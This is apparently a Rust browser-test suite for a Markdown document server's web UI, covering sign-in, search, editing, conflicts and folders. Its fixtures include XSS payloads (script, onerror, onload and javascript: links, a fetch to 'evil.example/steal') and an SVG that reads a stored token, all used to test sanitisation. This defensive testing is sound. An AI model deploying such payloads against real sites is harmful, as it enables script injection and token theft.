//! The web UI in a real browser: Debian's `chromium`, headless, driven through `chromedriver`
//! with `fantoccini`, against the real `ragdown serve`. Each scenario saves a screenshot under
//! `target/ui-screenshots/` (look at them: that is what a user sees).
//!
//! The browser and its driver run in a process group of their own, killed when the test ends
//! however it ends, so a failed test leaves nothing running. `scripts/test.sh` installs
//! `chromium` and `chromium-driver` when they are missing.

use crate::harness;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{Value, json};

const TOKEN: &str = "ui-token-456";

/// A 48×48 blue PNG: a real image, so the browser can prove it decoded it.
const PNG: &[u8] = &[
    137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 48, 0, 0, 0, 48, 8, 2,
    0, 0, 0, 216, 96, 110, 208, 0, 0, 0, 58, 73, 68, 65, 84, 120, 218, 237, 206, 65, 13, 0, 0, 8,
    4, 160, 11, 99, 38, 59, 219, 202, 22, 206, 7, 27, 1, 72, 245, 188, 18, 33, 33, 33, 33, 33, 33,
    33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 161, 59, 11, 97,
    208, 91, 166, 87, 227, 65, 161, 0, 0, 0, 0, 73, 69, 78, 68, 174, 66, 96, 130,
];

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let full = root.join(rel);
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(full, bytes).unwrap();
}

fn fixture(docs: &Path) {
    write(
        docs,
        "work/guide.md",
        b"---\ntags: [ops]\nowner: infra\n---\n# Guide\n\nStart with [[Backups#Restore]] and [[missing page]].\n\n![[img/logo.png]]\n",
    );
    write(
        docs,
        "work/backups.md",
        b"# Backups\n\nNightly snapshots of every database.\n\n## Restore\n\nTo restore a lighthouse snapshot, run `pg_restore` **twice** and check the row counts.\n",
    );
    write(docs, "work/img/logo.png", PNG);
    write(docs, "home/garden.md", b"# Garden\n\nTomatoes need sun.\n");
    // Loose at the top of the docs dir: listed, not indexed.
    write(docs, "loose.md", b"# Loose\n");
    write(
        docs,
        "work/hostile.md",
        concat!(
            "# Hostile\n\n",
            "<script>window.pwned = 1; fetch('https://evil.example/steal')</script>\n\n",
            "<img src=\"https://evil.example/pixel.gif\" onerror=\"window.pwned = 2\">\n\n",
            "<svg onload=\"window.pwned = 3\"><script>window.pwned = 4</script></svg>\n\n",
            "[click me](javascript:window.pwned=5) <a href=\"javascript:alert(6)\" id=\"bad\">bad link</a>\n\n",
            "<iframe src=\"https://evil.example\"></iframe>\n\n",
            "![remote](https://evil.example/track.png)\n",
        )
        .as_bytes(),
    );
}

/// The browser's driver, in a process group of its own (Chromium runs as its children).
struct Driver {
    child: Child,
    url: String,
}

impl Driver {
    fn start() -> Driver {
        use std::os::unix::process::CommandExt;
        let driver = std::env::var("RAGDOWN_TEST_CHROMEDRIVER").unwrap_or("chromedriver".into());
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = Command::new(&driver)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .unwrap_or_else(|e| {
                panic!("{driver} does not start ({e}): install chromium and chromium-driver (apt-get install chromium chromium-driver), as scripts/test.sh does")
            });
        let url = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(20);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "chromedriver never listened");
            std::thread::sleep(Duration::from_millis(50));
        }
        Driver { child, url }
    }
}

impl Drop for Driver {
    fn drop(&mut self) {
        // The whole group: the driver and every browser process it started.
        let _ = Command::new("kill")
            .args(["-s", "KILL", "--", &format!("-{}", self.child.id())])
            .status();
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A served docs dir and a fresh headless browser on it.
struct Ui {
    serve: Child,
    base: String,
    docs: tempfile::TempDir,
    _data: tempfile::TempDir,
    profile: tempfile::TempDir,
    driver: Driver,
}

impl Drop for Ui {
    fn drop(&mut self) {
        let _ = self.serve.kill();
        let _ = self.serve.wait();
    }
}

impl Ui {
    async fn start(env: &[(&str, &str)]) -> Ui {
        Ui::start_with(env, 0).await
    }

    /// [`Ui::start`] with `bulk` more documents of three sections each in `work/bulk/`: enough
    /// work for a rebuild to be seen while it runs.
    async fn start_with(env: &[(&str, &str)], bulk: usize) -> Ui {
        Ui::start_over(env, Duration::from_secs(20), |docs| {
            runbooks(docs, "work/bulk", bulk, 0);
            bulk
        })
        .await
    }

    /// [`Ui::start`] with the documents `more` writes (it says how many), indexed within
    /// `deadline`.
    async fn start_over(
        env: &[(&str, &str)],
        deadline: Duration,
        more: impl FnOnce(&Path) -> usize,
    ) -> Ui {
        let docs = tempfile::tempdir().unwrap();
        fixture(docs.path());
        let bulk = more(docs.path());
        let data = tempfile::tempdir().unwrap();
        let (serve, base, _log) = harness::spawn_serve(docs.path(), data.path(), TOKEN, env);
        let ui = Ui {
            serve,
            base,
            docs,
            _data: data,
            profile: tempfile::tempdir().unwrap(),
            driver: Driver::start(),
        };
        ui.wait_indexed(4 + bulk, deadline).await;
        ui
    }

    async fn wait_indexed(&self, files: usize, deadline: Duration) {
        let http = reqwest::Client::new();
        let deadline = Instant::now() + deadline;
        loop {
            let status: Value = http
                .get(format!("{}/api/status", self.base))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            if status["ready"] == true && status["syncing"] == false && status["files"] == files {
                return;
            }
            assert!(Instant::now() < deadline, "never indexed: {status}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn browser(&self) -> Client {
        self.browser_with(&["--window-size=1200,900"], json!({}))
            .await
    }

    /// A browser started with `args` besides the headless basics (a window size, a colour
    /// scheme), and `options` added to its `goog:chromeOptions` (a phone's screen).
    async fn browser_with(&self, args: &[&str], options: Value) -> Client {
        let binary = std::env::var("RAGDOWN_TEST_CHROMIUM").unwrap_or("/usr/bin/chromium".into());
        let capabilities = json!({
            "goog:chromeOptions": {
                "binary": binary,
                "args": [
                    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                    "--disable-quic", "--no-first-run", "--disable-background-networking",
                    "--disable-component-update", "--disable-sync",
                    format!("--user-data-dir={}", self.profile.path().display()),
                ],
            }
        });
        let mut capabilities = capabilities;
        let started = capabilities["goog:chromeOptions"]["args"]
            .as_array_mut()
            .unwrap();
        started.extend(args.iter().map(|a| json!(a)));
        for (key, value) in options.as_object().unwrap() {
            capabilities["goog:chromeOptions"][key] = value.clone();
        }
        let serde_json::Value::Object(capabilities) = capabilities else {
            unreachable!()
        };
        let connector = hyper_util::client::legacy::connect::HttpConnector::new();
        ClientBuilder::new(connector)
            .capabilities(capabilities)
            .connect(&self.driver.url)
            .await
            .expect("chromedriver starts a headless chromium")
    }
}

/// `count` runbooks of three sections each under `dir`.
/// `count` small runbooks under `dir`, each section followed by `notes` sentences of filler
/// (longer sections make a real model's rebuild last long enough to watch).
fn runbooks(docs: &Path, dir: &str, count: usize, notes: usize) {
    for i in 0..count {
        let notes = format!("Note {i}: check the dashboard of service {i} before and after. ")
            .repeat(notes);
        let text = format!(
            "# Runbook {i}\n\nService {i} keeps queue {i} drained. {notes}\n\n\
             ## Restart\n\nRestart worker {i} after draining queue {i} and checking its lag. {notes}\n\n\
             ## Alerts\n\nPage the owner of service {i} when the lag passes {i} seconds. {notes}\n"
        );
        write(docs, &format!("{dir}/runbook-{i}.md"), text.as_bytes());
    }
}

fn screenshots() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/ui-screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

async fn screenshot(client: &Client, name: &str) {
    let png = client.screenshot().await.unwrap();
    std::fs::write(screenshots().join(format!("{name}.png")), png).unwrap();
}

/// Waits for an element to appear, with the page's text in the failure.
async fn wait_for(client: &Client, css: &str) -> fantoccini::elements::Element {
    match client
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css(css))
        .await
    {
        Ok(element) => element,
        Err(e) => {
            let text = client
                .find(Locator::Css("body"))
                .await
                .unwrap()
                .text()
                .await
                .unwrap_or_default();
            panic!("{css} never appeared ({e}); the page says: {text}");
        }
    }
}

/// Clicks what `locator` finds, waiting (bounded) for it to appear.
async fn click(c: &Client, locator: Locator<'_>) {
    let found = c
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(locator)
        .await
        .unwrap_or_else(|e| panic!("nothing to click: {e}"));
    found.click().await.unwrap();
}

async fn wait_until(client: &Client, script: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let value = client.execute(script, vec![]).await.unwrap();
        if value == Value::Bool(true) {
            return;
        }
        if Instant::now() > deadline {
            let text = client
                .execute("return document.body.innerText", vec![])
                .await
                .unwrap();
            panic!("never true: {script}; the page says: {text}");
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn sign_in(client: &Client, base: &str) {
    client.goto(base).await.unwrap();
    wait_for(client, "#token")
        .await
        .send_keys(TOKEN)
        .await
        .unwrap();
    click(client, Locator::Css("button[type=submit]")).await;
    wait_for(client, "ul.cards").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_browse_read_follow_a_wikilink_and_go_back() {
    let ui = Ui::start(&[]).await;
    let c = ui.browser().await;

    // A wrong token gets a clear screen, and nothing else.
    c.goto(&ui.base).await.unwrap();
    wait_for(&c, "#token")
        .await
        .send_keys("wrong")
        .await
        .unwrap();
    click(&c, Locator::Css("button[type=submit]")).await;
    let refused = wait_for(&c, ".signin .error").await.text().await.unwrap();
    assert!(refused.contains("refused"), "{refused}");
    screenshot(&c, "sign-in-refused").await;

    sign_in(&c, &ui.base).await;
    let cards = c
        .find(Locator::Css("ul.cards"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(cards.contains("work") && cards.contains("home"), "{cards}");
    assert!(cards.contains("3 documents"), "{cards}");
    screenshot(&c, "folders").await;
    // A loose file can be deleted from the list, after a question.
    write(ui.docs.path(), "stray.md", b"# Stray\n\nSee [[loose]].\n");
    c.refresh().await.unwrap();
    wait_until(
        &c,
        "return document.querySelectorAll('ul.loose li').length === 2",
    )
    .await;
    screenshot(&c, "loose-files").await;
    let loose = wait_for(&c, "ul.loose li").await.text().await.unwrap();
    assert!(loose.starts_with("loose.md"), "{loose}");
    click(&c, Locator::Css("ul.loose button")).await;
    c.accept_alert().await.unwrap();
    wait_until(
        &c,
        "return document.querySelectorAll('ul.loose li').length === 1",
    )
    .await;
    assert!(!ui.docs.path().join("loose.md").exists());
    // The rest become a folder in one step, which opens.
    fill(&c, ".adopt-loose input", "inbox").await;
    click_button(&c, "Move into a folder").await;
    wait_until(
        &c,
        "return document.querySelector('h1')?.textContent === 'inbox' && !!document.querySelector('ul.tree')",
    )
    .await;
    assert!(ui.docs.path().join("inbox/stray.md").is_file());
    assert!(!ui.docs.path().join("stray.md").exists());
    c.goto(&ui.base).await.unwrap();
    wait_for(&c, "ul.cards").await;
    wait_until(&c, "return !document.querySelector('ul.loose')").await;

    // The folder's tree, then a document.
    click(&c, Locator::LinkText("work")).await;
    wait_for(&c, "ul.tree").await;
    screenshot(&c, "folder-tree").await;
    click(&c, Locator::LinkText("Guide")).await;
    wait_for(&c, ".markdown h1").await;
    assert_eq!(c.current_url().await.unwrap().path(), "/f/work/guide.md");
    let properties = c
        .find(Locator::Css("table.properties"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        properties.contains("owner") && properties.contains("infra"),
        "{properties}"
    );
    // The tags are shown once, as chips, not also as a property row.
    assert!(!properties.contains("tags"), "{properties}");
    let tags = wait_for(&c, "p.tags").await.text().await.unwrap();
    assert_eq!(tags, "#ops");
    // The image came through /api/file with the token, as a blob, and decoded.
    wait_until(
        &c,
        "const i = document.querySelector('.markdown img'); return !!i && i.complete && i.naturalWidth === 48 && i.src.startsWith('blob:');",
    )
    .await;
    let unresolved = c
        .find(Locator::Css(".markdown a.unresolved"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(unresolved, "missing page");
    screenshot(&c, "document").await;

    // A wikilink to a heading opens its document at that section.
    click(&c, Locator::Css(".markdown a.wikilink")).await;
    wait_for(&c, ".markdown h2.highlight").await;
    let url = c.current_url().await.unwrap();
    assert_eq!(
        (url.path(), url.fragment()),
        ("/f/work/backups.md", Some("restore"))
    );
    // Backlinks under it, with the linking line.
    let backlinks = wait_for(&c, ".backlinks li").await.text().await.unwrap();
    assert!(
        backlinks.contains("Guide") && backlinks.contains("line 7"),
        "{backlinks}"
    );
    screenshot(&c, "wikilink-and-backlinks").await;

    // Back and forward work; a reload of a deep link loads the app there.
    c.back().await.unwrap();
    wait_until(&c, "return location.pathname === '/f/work/guide.md' && !!document.querySelector('.markdown h1')").await;
    c.forward().await.unwrap();
    wait_until(&c, "return location.pathname === '/f/work/backups.md'").await;
    c.refresh().await.unwrap();
    wait_for(&c, ".markdown h2.highlight").await;

    // Sign out asks again.
    click(&c, Locator::Css("header button.link")).await;
    wait_for(&c, "#token").await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_opens_a_hit_at_its_section() {
    let ui = Ui::start(&[]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    // Search as you type: a pause is enough, no Enter.
    c.find(Locator::Css("form.search input"))
        .await
        .unwrap()
        .send_keys("pg_restore")
        .await
        .unwrap();
    wait_until(
        &c,
        "return location.pathname === '/search' && !!document.querySelector('ol.hits li')",
    )
    .await;
    // Snippets read as text, not Markdown source.
    let snippet = wait_for(&c, "ol.hits li .snippet")
        .await
        .text()
        .await
        .unwrap();
    assert!(
        snippet.contains("run pg_restore twice and check") && !snippet.contains('`'),
        "{snippet}"
    );
    c.find(Locator::Css("form.search input"))
        .await
        .unwrap()
        .clear()
        .await
        .unwrap();
    c.goto(&ui.base).await.unwrap();
    wait_for(&c, "ul.cards").await;
    // `/` focuses the search box from anywhere.
    c.find(Locator::Css("body"))
        .await
        .unwrap()
        .send_keys("/")
        .await
        .unwrap();
    wait_until(
        &c,
        "return document.activeElement?.getAttribute('aria-label') === 'Search'",
    )
    .await;
    c.find(Locator::Css("form.search input"))
        .await
        .unwrap()
        .send_keys("restore lighthouse snapshot\u{E007}")
        .await
        .unwrap();
    let first = wait_for(&c, "ol.hits li").await;
    let text = first.text().await.unwrap();
    assert!(
        text.contains("Backups › Restore") && text.contains("work/backups.md"),
        "{text}"
    );
    assert!(text.contains("lines 7–7"), "{text}");
    screenshot(&c, "search").await;
    first
        .find(Locator::Css("a"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let highlighted = wait_for(&c, ".markdown h2.highlight")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(highlighted, "Restore");
    assert_eq!(c.current_url().await.unwrap().fragment(), Some("L7"));
    screenshot(&c, "search-hit-opened").await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_document_executes_nothing_and_the_token_needs_no_prompt_on_a_local_net() {
    let ui = Ui::start(&[("SECURE_LOCAL_NET", "true"), ("RAGDOWN_TOKEN", "")]).await;
    let c = ui.browser().await;
    // SECURE_LOCAL_NET: no token asked.
    c.goto(&format!("{}/f/work/hostile.md", ui.base))
        .await
        .unwrap();
    wait_for(&c, ".markdown h1").await;
    // Give anything that would run the time to run.
    tokio::time::sleep(Duration::from_millis(500)).await;
    click(&c, Locator::LinkText("click me")).await;
    click(&c, Locator::LinkText("bad link")).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(c.get_alert_text().await.is_err(), "an alert opened");
    let pwned = c
        .execute("return window.pwned ?? null", vec![])
        .await
        .unwrap();
    assert_eq!(pwned, Value::Null, "a script in the document ran");
    // No request left for another origin: every resource the page loaded is this server's.
    let foreign = c
        .execute(
            "return performance.getEntriesByType('resource').map(e => e.name).filter(n => !n.startsWith(location.origin) && !n.startsWith('blob:'))",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(foreign, json!([]), "requests to another origin");
    let frames = c
        .execute(
            "return document.querySelectorAll('iframe, script:not([src]), svg').length",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(frames, json!(0));
    assert!(ui.docs.path().join("work/hostile.md").exists());
    screenshot(&c, "hostile-document").await;
    c.close().await.unwrap();
}

/// A document that leaves a `<style>`, a `<textarea>` or a comment open, and holds a form,
/// shows people every line of text agents read, and no control but a task list's checkbox;
/// a linked SVG (which could run script as a page of the app's origin) is saved, never
/// opened as a tab.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_agents_read_people_see_and_linked_files_do_not_run() {
    let ui = Ui::start(&[("SECURE_LOCAL_NET", "true"), ("RAGDOWN_TOKEN", "")]).await;
    for (name, opening) in [
        ("style", "<style>.markdown { display: none }"),
        ("textarea", "<textarea>"),
        ("comment", "<!-- never closed"),
    ] {
        write(
            ui.docs.path(),
            &format!("work/open-{name}.md"),
            format!("# Open {name}\n\nBefore it.\n\n{opening}\n\nAFTER-{name} is shown too.\n")
                .as_bytes(),
        );
    }
    write(
        ui.docs.path(),
        "work/controls.md",
        b"# Controls\n\n<form><input type=\"password\" name=\"p\"><input name=\"q\"><button>Go</button></form>\n\n- [x] done\n\n[the drawing](drawing.svg)\n",
    );
    write(
        ui.docs.path(),
        "work/drawing.svg",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.opener && (window.opener.pwned = 3)\"><script>localStorage.getItem('ragdown-token')</script></svg>",
    );
    let c = ui.browser().await;
    for name in ["style", "textarea", "comment"] {
        // The watcher indexes the new documents within a second or two.
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            c.goto(&format!("{}/f/work/open-{name}.md", ui.base))
                .await
                .unwrap();
            if c.wait()
                .at_most(Duration::from_secs(3))
                .for_element(Locator::Css(".markdown h1"))
                .await
                .is_ok()
            {
                break;
            }
            assert!(Instant::now() < deadline, "open-{name}.md never opened");
        }
        wait_until(
            &c,
            &format!("return document.querySelector('.markdown').innerText.includes('AFTER-{name} is shown too')"),
        )
        .await;
        screenshot(&c, &format!("open-{name}")).await;
    }
    c.goto(&format!("{}/f/work/controls.md", ui.base))
        .await
        .unwrap();
    wait_for(&c, ".markdown h1").await;
    let controls = c
        .execute(
            "return [document.querySelectorAll('.markdown input:not([type=checkbox]), .markdown form, .markdown button, .markdown textarea, .markdown select').length, document.querySelectorAll('.markdown input[type=checkbox]').length]",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(controls, json!([0, 1]), "only the task's checkbox");
    let windows = c.windows().await.unwrap().len();
    click(&c, Locator::LinkText("the drawing")).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(
        c.windows().await.unwrap().len(),
        windows,
        "the SVG was opened as a page of the app's origin"
    );
    let pwned = c
        .execute("return window.pwned ?? null", vec![])
        .await
        .unwrap();
    assert_eq!(pwned, Value::Null);
    screenshot(&c, "form-controls-dropped").await;
    c.close().await.unwrap();
}

/// The editor's text, as CodeMirror holds it.
async fn editor_text(c: &Client) -> String {
    let value = c
        .execute(
            "return [...document.querySelectorAll('.cm-line')].map(l => l.textContent).join('\\n')",
            vec![],
        )
        .await
        .unwrap();
    value.as_str().unwrap_or_default().to_string()
}

/// Types at the end of the editor's text, then saves with Ctrl+S.
async fn type_and_save(c: &Client, text: &str) {
    let content = c.find(Locator::Css(".cm-content")).await.unwrap();
    content.click().await.unwrap();
    // Ctrl+End (modifiers stay down until the NULL key), the text, then Ctrl+S.
    content
        .send_keys(&format!("\u{E009}\u{E010}\u{E000}{text}\u{E009}s\u{E000}"))
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn edit_save_and_both_answers_to_a_conflict() {
    let ui = Ui::start(&[]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    c.goto(&format!("{}/f/work/backups.md", ui.base))
        .await
        .unwrap();
    wait_for(&c, ".doc-actions button")
        .await
        .click()
        .await
        .unwrap();
    wait_for(&c, ".cm-content").await;
    wait_until(
        &c,
        "return document.querySelector('.cm-line')?.textContent === '# Backups'",
    )
    .await;
    // The editor's own styles applied: the page's CSP admitted them by this response's nonce.
    wait_until(
        &c,
        "return getComputedStyle(document.querySelector('.cm-gutters')).display === 'flex'",
    )
    .await;
    let file = ui.docs.path().join("work/backups.md");

    // A plain save.
    type_and_save(&c, "\nSaved from the browser.").await;
    wait_until(
        &c,
        "return document.querySelector('.edit .status')?.textContent === 'Saved.'",
    )
    .await;
    let on_disk = std::fs::read_to_string(&file).unwrap();
    assert!(
        on_disk.ends_with("**twice** and check the row counts.\n\nSaved from the browser."),
        "{on_disk:?}"
    );

    // The preview is the server's rendering of the draft.
    click(&c, Locator::Css(".switch button:nth-child(2)")).await;
    let preview = wait_for(&c, ".preview h2").await.text().await.unwrap();
    assert_eq!(preview, "Restore");
    click(&c, Locator::Css(".switch button:nth-child(1)")).await;

    // Someone changes the file meanwhile: the save is refused and the dialog says so.
    std::fs::write(&file, "# Backups\n\nRewritten by an agent.\n").unwrap();
    type_and_save(&c, " Mine.").await;
    wait_for(&c, "dialog.conflict[open]").await;
    click(&c, Locator::XPath("//dialog//button[text()='Show both']")).await;
    let both = wait_for(&c, "dialog .both").await.text().await.unwrap();
    assert!(
        both.contains("Rewritten by an agent.") && both.contains("Mine."),
        "{both}"
    );
    screenshot(&c, "edit-conflict").await;
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "# Backups\n\nRewritten by an agent.\n"
    );
    // Save mine over it.
    click(
        &c,
        Locator::XPath("//dialog//button[text()='Save mine over it']"),
    )
    .await;
    wait_until(&c, "return !document.querySelector('dialog.conflict[open]') && document.querySelector('.edit .status')?.textContent === 'Saved.'").await;
    let mine = std::fs::read_to_string(&file).unwrap();
    assert!(mine.ends_with("Saved from the browser. Mine."), "{mine:?}");

    // Again, and this time discard mine: the editor shows the disk's text, the file is kept.
    std::fs::write(&file, "# Backups\n\nThe agent's second version.\n").unwrap();
    type_and_save(&c, " Lost.").await;
    wait_for(&c, "dialog.conflict[open]").await;
    click(
        &c,
        Locator::XPath("//dialog//button[text()='Discard mine']"),
    )
    .await;
    wait_until(
        &c,
        "return !document.querySelector('dialog.conflict[open]')",
    )
    .await;
    let shown = editor_text(&c).await;
    assert_eq!(
        shown, "# Backups\n\nThe agent's second version.\n",
        "{shown:?}"
    );
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "# Backups\n\nThe agent's second version.\n"
    );
    screenshot(&c, "edit-after-discard").await;

    // Done shows the document as saved.
    click(&c, Locator::XPath("//button[text()='Done']")).await;
    wait_until(&c, "return document.querySelector('.markdown')?.textContent.includes(\"The agent's second version.\")").await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn read_only_disables_writing_and_says_why() {
    let ui = Ui::start(&[("RAGDOWN_READ_ONLY", "true")]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    assert!(
        c.find(Locator::Css("header .badge"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
            .contains("read-only")
    );
    c.goto(&format!("{}/f/work/backups.md", ui.base))
        .await
        .unwrap();
    let edit = wait_for(&c, ".doc-actions button").await;
    assert!(
        !edit.is_enabled().await.unwrap(),
        "Edit is disabled under read-only"
    );
    let why = edit.attr("title").await.unwrap().unwrap_or_default();
    assert!(why.contains("RAGDOWN_READ_ONLY"), "{why}");
    screenshot(&c, "read-only").await;
    c.close().await.unwrap();
}

async fn fill(c: &Client, css: &str, text: &str) {
    let input = wait_for(c, css).await;
    input.clear().await.unwrap();
    input.send_keys(text).await.unwrap();
}

/// Clicks the button labelled `label`, waiting for it to appear.
async fn click_button(c: &Client, label: &str) {
    let xpath = format!("//button[normalize-space()='{label}']");
    click(c, Locator::XPath(&xpath)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn new_document_upload_move_and_delete() {
    let ui = Ui::start(&[]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    c.goto(&format!("{}/f/work", ui.base)).await.unwrap();
    wait_for(&c, "ul.tree").await;

    // A new document in a new subfolder: `# <title>`, then it opens.
    click_button(&c, "New document").await;
    fill(&c, "dialog input[name=title]", "Release Checklist").await;
    fill(&c, "dialog input[name=subfolder]", "plans/2026").await;
    screenshot(&c, "new-document").await;
    click_button(&c, "Create").await;
    wait_until(&c, "return location.pathname === '/f/work/plans/2026/Release%20Checklist.md' && !!document.querySelector('.markdown h1')").await;
    let created = ui.docs.path().join("work/plans/2026/Release Checklist.md");
    assert_eq!(
        std::fs::read_to_string(&created).unwrap(),
        "# Release Checklist\n"
    );

    // The same name again: it offers to open the one there.
    c.goto(&format!("{}/f/work", ui.base)).await.unwrap();
    click_button(&c, "New document").await;
    fill(&c, "dialog input[name=title]", "Release Checklist").await;
    fill(&c, "dialog input[name=subfolder]", "plans/2026").await;
    click_button(&c, "Create").await;
    let taken = wait_for(&c, "dialog .error").await.text().await.unwrap();
    assert!(taken.contains("already exists"), "{taken}");
    click_button(&c, "Open it").await;
    wait_until(
        &c,
        "return location.pathname.endsWith('Release%20Checklist.md')",
    )
    .await;

    // Upload a Markdown file; uploading over an existing one asks first.
    let upload = tempfile::tempdir().unwrap();
    let file = upload.path().join("backups.md");
    std::fs::write(&file, "# Backups\n\nUploaded over the old one.\n").unwrap();
    c.goto(&format!("{}/f/work", ui.base)).await.unwrap();
    wait_for(&c, "ul.tree").await;
    c.find(Locator::Css("input[type=file]"))
        .await
        .unwrap()
        .send_keys(&file.to_string_lossy())
        .await
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let question = loop {
        if let Ok(text) = c.get_alert_text().await {
            break text;
        }
        assert!(Instant::now() < deadline, "no question before replacing");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert!(question.contains("already exists"), "{question}");
    c.accept_alert().await.unwrap();
    wait_until(&c, "return location.pathname === '/f/work/backups.md' && (document.querySelector('.markdown')?.textContent ?? '').includes('Uploaded over the old one.')").await;

    // Move the document the guide links to: the guide's link is rewritten, and the app says so.
    click_button(&c, "Move").await;
    fill(&c, "dialog input[name=to]", "work/ops/restore-runbook.md").await;
    click(
        &c,
        Locator::XPath("//dialog//button[normalize-space()='Move']"),
    )
    .await;
    let updated = wait_for(&c, "dialog ul.updated")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(updated, "work/guide.md");
    screenshot(&c, "moved").await;
    let guide = std::fs::read_to_string(ui.docs.path().join("work/guide.md")).unwrap();
    assert!(guide.contains("restore-runbook#Restore"), "{guide}");
    click_button(&c, "Open it").await;
    wait_until(
        &c,
        "return location.pathname === '/f/work/ops/restore-runbook.md'",
    )
    .await;

    // Delete, confirmed.
    wait_for(&c, ".markdown h1").await;
    click_button(&c, "Delete").await;
    click(
        &c,
        Locator::XPath("//dialog//button[normalize-space()='Delete']"),
    )
    .await;
    wait_until(&c, "return location.pathname === '/f/work'").await;
    assert!(!ui.docs.path().join("work/ops/restore-runbook.md").exists());
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn folders_create_configure_copy_mcp_rename_and_delete() {
    let ui = Ui::start(&[]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    click_button(&c, "New folder").await;
    fill(&c, "dialog input[name=name]", "team").await;
    click_button(&c, "Create").await;
    wait_until(&c, "return location.pathname === '/f/team'").await;
    assert!(ui.docs.path().join("team").is_dir());

    // Settings: title, MCP on, a hook value; saved to the folder's .ragdown.json.
    click_button(&c, "Settings").await;
    fill(&c, "form.settings input[name=title]", "Team Notes").await;
    click(&c, Locator::Css("form.settings input[name=mcp]")).await;
    fill(&c, "form.settings input[name=top_k]", "2").await;
    click_button(&c, "Save settings").await;
    wait_until(
        &c,
        "return document.querySelector('form.settings [role=status]')?.textContent === 'Saved.'",
    )
    .await;
    let config: Value = serde_json::from_str(
        &std::fs::read_to_string(ui.docs.path().join("team/.ragdown.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(config["title"], "Team Notes");
    assert_eq!(config["mcp"], true);
    assert_eq!(config["hook"]["top_k"], 2);
    wait_until(
        &c,
        "return document.querySelector('h1')?.textContent === 'Team Notes'",
    )
    .await;
    screenshot(&c, "folder-settings").await;

    // MCP on: the config to copy names the endpoint and carries the header, reading the token
    // from the environment rather than showing it; the hooks and the Inspector's flag are there.
    click_button(&c, "Copy MCP config").await;
    let config = wait_for(&c, ".mcp-config").await.text().await.unwrap();
    assert!(
        config.contains(&format!(
            "claude mcp add --transport http ragdown-team {}/mcp/team",
            ui.base
        )) && config.contains("--header \"Authorization: Bearer $RAGDOWN_TOKEN\"")
            && config.contains("\"Authorization\": \"Bearer ${RAGDOWN_TOKEN}\"")
            && config.contains("\"mcpServers\""),
        "{config}"
    );
    assert!(
        !config.contains(TOKEN),
        "the token is never shown: {config}"
    );
    assert!(
        config.contains("\"UserPromptSubmit\"")
            && config.contains("\"server\": \"ragdown-team\"")
            && config.contains("\"format\": \"claude-code\"")
            && config.contains("\"matcher\": \"compact\"")
            && config.contains("--transport http"),
        "{config}"
    );
    screenshot(&c, "mcp-config").await;

    // Rename (re-indexed under the new name), then delete by typing the name.
    click_button(&c, "Rename").await;
    fill(&c, "dialog input[name=name]", "crew").await;
    click(
        &c,
        Locator::XPath("//dialog//button[normalize-space()='Rename']"),
    )
    .await;
